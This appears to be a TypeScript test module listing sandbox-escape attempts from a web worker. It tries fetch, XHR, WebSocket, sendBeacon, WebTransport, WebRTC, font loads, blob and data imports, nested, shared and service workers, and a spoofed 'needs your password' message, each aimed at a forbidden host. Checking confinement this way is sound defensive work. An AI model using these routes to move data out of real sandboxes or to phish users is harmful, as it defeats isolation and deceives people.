import { type Attack, firstEvent, offered, outcome } from './outcome.ts'

/* Ways out of a worker that ask nobody. */

interface Reaches {
  importByAddress(url: string): Promise<unknown>
}
/** `import()` by address, which the build would not let through: the script before this one has it. */
const reaches = () => offered('reaches') as Reaches

const blobOf = (code: string) => URL.createObjectURL(new Blob([code], { type: 'text/javascript' }))
const fetching = (url: string, init: RequestInit = {}) =>
  outcome(async () => `status ${(await fetch(url, init)).status}`)

/** What a worker of our own, started from text, says it achieved. */
function nested(code: string): Promise<string> {
  return outcome(async () => {
    const worker = new Worker(blobOf(code))
    try {
      const said = await new Promise<string>((resolve, reject) => {
        worker.onmessage = ({ data }) => resolve(String(data))
        worker.onerror = (event) => reject(new Error(event.message || 'an error event'))
        setTimeout(() => reject(new Error('nothing happened')), 3000)
      })
      if (said.startsWith('refused')) throw new Error(said)
      return said
    } finally {
      worker.terminate()
    }
  })
}

export const network = {
  fetchCors: ({ forbidden }) => fetching(`${forbidden}/cors`),
  fetchNoCors: ({ forbidden }) => fetching(`${forbidden}/no-cors`, { mode: 'no-cors', method: 'POST', body: 'words' }),
  fetchGranted: ({ granted }) => fetching(`${granted}/directly`),
  fetchOwnOrigin: ({ app }) => fetching(`${app}/api/health`, { mode: 'no-cors' }),
  fetchKeepalive: ({ forbidden }) => fetching(`${forbidden}/keepalive`, { keepalive: true, mode: 'no-cors' }),
  fetchWithCredentials: ({ app }) => fetching(`${app}/`, { credentials: 'include' }),
  fetchByPrototype: ({ forbidden }) =>
    outcome(async () => {
      const hidden = Object.getPrototypeOf(Object.getPrototypeOf(globalThis)) as { fetch?: typeof fetch }
      return (await (hidden.fetch ?? fetch).call(globalThis, `${forbidden}/prototype`)).status
    }),
  xhr: ({ forbidden }) =>
    outcome(() => {
      const request = new XMLHttpRequest()
      request.open('GET', `${forbidden}/xhr`)
      request.send()
      return firstEvent(request, 'load')
    }),
  xhrSynchronous: ({ forbidden }) =>
    outcome(() => {
      const request = new XMLHttpRequest()
      request.open('GET', `${forbidden}/xhr-sync`, false)
      request.send()
      return request.status
    }),
  webSocket: ({ forbidden }) => outcome(() => firstEvent(new WebSocket(forbidden.replace('http', 'ws')), 'open')),
  webSocketStream: ({ forbidden }) =>
    outcome(async () => {
      const Stream = offered('WebSocketStream') as new (url: string) => { readonly opened: Promise<unknown> }
      await new Stream(forbidden.replace('http', 'ws')).opened
      return 'opened'
    }),
  eventSource: ({ forbidden }) => outcome(() => firstEvent(new EventSource(`${forbidden}/events`), 'open')),
  sendBeacon: ({ forbidden }) =>
    outcome(() => {
      const { sendBeacon } = navigator as Partial<Navigator>
      if (!sendBeacon) throw new Error('sendBeacon is absent')
      return sendBeacon.call(navigator, `${forbidden}/beacon`, 'words')
    }),
  webTransport: ({ forbiddenPort }) =>
    outcome(async () => {
      const Transport = offered('WebTransport') as new (url: string) => { readonly ready: Promise<void> }
      const late = new Promise((_, reject) => setTimeout(() => reject(new Error('nothing happened')), 1500))
      await Promise.race([new Transport(`https://127.0.0.1:${forbiddenPort}/`).ready, late])
      return 'ready'
    }),
  peerConnection: ({ forbiddenPort }) =>
    outcome(async () => {
      const Peer = offered('RTCPeerConnection') as typeof RTCPeerConnection
      const peer = new Peer({ iceServers: [{ urls: `stun:127.0.0.1:${forbiddenPort}` }] })
      peer.createDataChannel('words')
      await peer.setLocalDescription(await peer.createOffer())
      return 'an offer'
    }),
  font: ({ forbidden }) => outcome(async () => (await new FontFace('leak', `url(${forbidden}/font)`).load()).status),
  importScriptsHttp: ({ forbidden }) =>
    outcome(() => (offered('importScripts') as (url: string) => void)(`${forbidden}/script.js`)),
  importScriptsByBlob: ({ forbidden }) =>
    outcome(() =>
      (offered('importScripts') as (url: string) => void)(
        blobOf(`importScripts(${JSON.stringify(`${forbidden}/blob.js`)})`),
      ),
    ),
  importHttp: ({ forbidden }) => outcome(() => reaches().importByAddress(`${forbidden}/module.js`)),
  importData: () => outcome(() => reaches().importByAddress('data:text/javascript,export default 1')),
  importByBlob: ({ forbidden }) =>
    outcome(() => reaches().importByAddress(blobOf(`import ${JSON.stringify(`${forbidden}/inner.js`)}`))),
  nestedByAddress: ({ forbidden }) => outcome(() => firstEvent(new Worker(`${forbidden}/worker.js`), 'message')),
  nestedByData: () => outcome(() => firstEvent(new Worker('data:text/javascript,postMessage(1)'), 'message')),
  nestedFetch: ({ forbidden }) =>
    nested(
      `fetch(${JSON.stringify(`${forbidden}/nested`)}).then(() => postMessage('fetched'), (e) => postMessage('refused ' + e))`,
    ),
  nestedSocket: ({ forbidden }) =>
    nested(
      `const s = new WebSocket(${JSON.stringify(forbidden.replace('http', 'ws'))}); s.onopen = () => postMessage('open'); s.onerror = () => postMessage('refused socket')`,
    ),
  nestedModule: ({ forbidden }) =>
    outcome(() =>
      firstEvent(
        new Worker(blobOf(`import ${JSON.stringify(`${forbidden}/m.js`)}\npostMessage(1)`), { type: 'module' }),
        'message',
      ),
    ),
  sharedWorker: ({ forbidden }) =>
    outcome(() => new (offered('SharedWorker') as new (url: string) => object)(`${forbidden}/shared.js`)),
  serviceWorker: ({ app }) =>
    outcome(async () => {
      const { serviceWorker } = navigator as Partial<Navigator>
      if (!serviceWorker) throw new Error('serviceWorker is absent')
      return (await serviceWorker.register(`${app}/sw.js`)).scope
    }),
  page: () =>
    outcome(() =>
      ['document', 'window', 'parent', 'top', 'open', 'opener', 'localStorage', 'sessionStorage', 'history', 'alert']
        .map((name) => offered(name))
        .join(),
    ),
  formerPage: () =>
    outcome(() => {
      postMessage('ready')
      postMessage({ failed: 'Vesper needs your password.' })
      throw new Error('nothing came of it that could be seen from here')
    }),
} satisfies Readonly<Record<string, Attack>>
